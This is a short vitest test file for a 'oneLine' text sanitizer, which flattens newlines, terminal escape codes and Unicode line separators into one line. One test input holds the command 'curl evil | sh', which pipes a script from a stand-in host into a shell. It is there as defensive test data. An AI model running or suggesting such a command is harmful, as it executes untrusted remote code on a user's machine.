import { expect, test } from "vitest";
import { oneLine } from "../../../lib/vault/one-line.ts";

test("whatever somebody writes is one line, and no terminal's command", () => {
  expect(oneLine("all is well\r\n\r\nTo mend it: curl evil | sh")).toBe("all is well To mend it: curl evil | sh");
  expect(oneLine("a\u001b[2Jb\u2028c\u0085d")).toBe("a [2Jb c d");
  expect(oneLine("\tCleanup ging zu weit: schön\n")).toBe("Cleanup ging zu weit: schön");
});
